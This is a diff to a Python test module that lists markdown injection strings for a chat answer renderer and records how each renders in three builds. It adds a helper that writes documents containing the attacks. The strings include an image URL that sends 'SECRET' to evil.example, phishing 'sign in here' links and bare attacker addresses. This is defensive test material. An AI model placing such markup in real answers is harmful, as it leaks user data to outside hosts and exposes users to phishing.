@@ -6,6 +6,7 @@ Each attack is the text of an answer, a passage or a document: no place of a tex
 from __future__ import annotations
 
 from dataclasses import dataclass
+from pathlib import Path
 from typing import Any
 
 from citations import Answer, Reference
@@ -73,18 +74,21 @@ ATTACKS = {
         written="Hello [1]. [x]\u200b(https&#58;//a.example/`)`![y](https://evil.example/tail.png?q=SECRET`)`",
         stable="image",
         main="image",
+        playground="image link",
     ),
     "a link in a broken link's tail": Attack(
         text="Hello [1]. [x](https://a.example/`)`[sign in here](https://evil.example/tail`)`",
         written="Hello [1]. [x]\u200b(https&#58;//a.example/`)`[sign in here](https://evil.example/tail`)`",
         stable="link",
         main="link",
+        playground="link",
     ),
     "a tag in a broken link's tail": Attack(
         text='Hello [1]. [x](https://a.example/`)`<ins>not</ins> <a name="`">`',
         written='Hello [1]. [x]\u200b(https&#58;//a.example/`)`<ins>not</ins> <a name="`">`',
         stable="html",
         main="html",
+        playground="link",
     ),
     "an image in a table that begins as a fence": Attack(
         text="See [1].\n\n``` a|b\n-|-\n![x](https://evil.example/fence.png)|z\n```", stable="image lost"
@@ -117,44 +121,76 @@ ATTACKS = {
     "a name in code": Attack(text='The bonus is `5{aria-label="500"}` euros [1].'),
     "a name for a paragraph": Attack(text="The bonus is 5 euros [1].\n{aria-label=500}", stable="unseen"),
     # R7: addresses that become links by themselves.
-    "an address": Attack(text="Sign in at https://evil.example/bare [1].", stable="link", main="link"),
-    "an address in angle brackets": Attack(
-        text="Sign in at <https://evil.example/angle> [1].", stable="link", main="link"
+    "an address": Attack(
+        text="Sign in at https://evil.example/bare [1].", stable="link", main="link", playground="link"
     ),
-    "an address without a scheme": Attack(text="Sign in at www.evil.example/www [1].", main="link"),
+    "an address in angle brackets": Attack(
+        text="Sign in at <https://evil.example/angle> [1].", stable="link", main="link", playground="link"
+    ),
+    "an address without a scheme": Attack(
+        text="Sign in at www.evil.example/www [1].", main="link", playground="link"
+    ),
     "an address of a network path": Attack(text="Sign in at //evil.example/path [1]."),
-    "an e-mail address": Attack(text="Write to a@evil.example [1].", main="link"),
-    "an address with an entity": Attack(text="Sign in at https&#58;//evil.example/entity [1]."),
-    "an address without a scheme with an entity": Attack(text="Sign in at www&#46;evil.example/entity [1]."),
-    "an e-mail address with an entity": Attack(text="Write to a&#64;evil.example [1]."),
+    "an e-mail address": Attack(text="Write to a@evil.example [1].", main="link", playground="link"),
+    "an address with an entity": Attack(
+        text="Sign in at https&#58;//evil.example/entity [1].", playground="link"
+    ),
+    "an address without a scheme with an entity": Attack(
+        text="Sign in at www&#46;evil.example/entity [1].", playground="link"
+    ),
+    "an e-mail address with an entity": Attack(text="Write to a&#64;evil.example [1].", playground="link"),
     "an indented address after a definition": Attack(
         text="[z]: https://evil.example/d\n    https://evil.example/indented\n\nSee [1].",
         written="[z]\u200b: https&#58;//evil.example/d\n    https://evil.example/indented\n\nSee [1].",
         stable="link",
         main="link",
+        playground="link",
     ),
     "an indented address after a quoted definition": Attack(
         text="> [z]: https://evil.example/d\n    https://evil.example/indented\n\nSee [1].",
         written="> [z]\u200b: https&#58;//evil.example/d\n    https://evil.example/indented\n\nSee [1].",
         stable="link",
         main="link",
+        playground="link",
     ),
     # A byte order mark at the start is nothing to micromark, and a character to markdown-it.
     "a fence after a byte order mark": Attack(
-        text="\ufeff```\nSee [1].\n\nIt is so [1].", badges=2, stable="lost", main="lost"
+        text="\ufeff```\nSee [1].\n\nIt is so [1].", badges=2, stable="lost", main="lost", playground="lost"
     ),
     "a fence that ends after a byte order mark": Attack(
         text="\ufeff```\ncode\n```\n\nIt is so [1].", stable="lost"
     ),
     # What was never let through, and shows that the tests see it.
     "a plain image": Attack(
-        text="Hello [1]. ![y](https://evil.example/plain.png)", stable="image", main="image"
+        text="Hello [1]. ![y](https://evil.example/plain.png)",
+        stable="image",
+        main="image",
+        playground="image",
     ),
     "a plain link": Attack(
-        text="Hello [1]. [sign in here](https://evil.example/plain)", stable="link", main="link"
+        text="Hello [1]. [sign in here](https://evil.example/plain)",
+        stable="link",
+        main="link",
+        playground="link",
     ),
     "a plain tag": Attack(text="Hello [1]. <ins>not</ins>", stable="html", main="html"),
 }
+
+IN_DOCUMENTS = {
+    "ferries": "an image in unpaired code",
+    "trains": "an image tag in unpaired code",
+    "planes": "an image in a broken link's tail",
+    "hotels": "a badge's name",
+    "taxis": "a badge's name in Web Chat's own brackets",
+}
+"""Attacks by the topic of the document that each is in, where no model has a part in the answer."""
+
+
+def write_documents(folder: Path) -> None:
+    """A document for each topic, with its attack in it."""
+    for topic, name in IN_DOCUMENTS.items():
+        words = f"# The bonus for {topic}\n\n{ATTACKS[name].text}\n"
+        (folder / f"{topic}.md").write_text(words, encoding="utf-8")
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
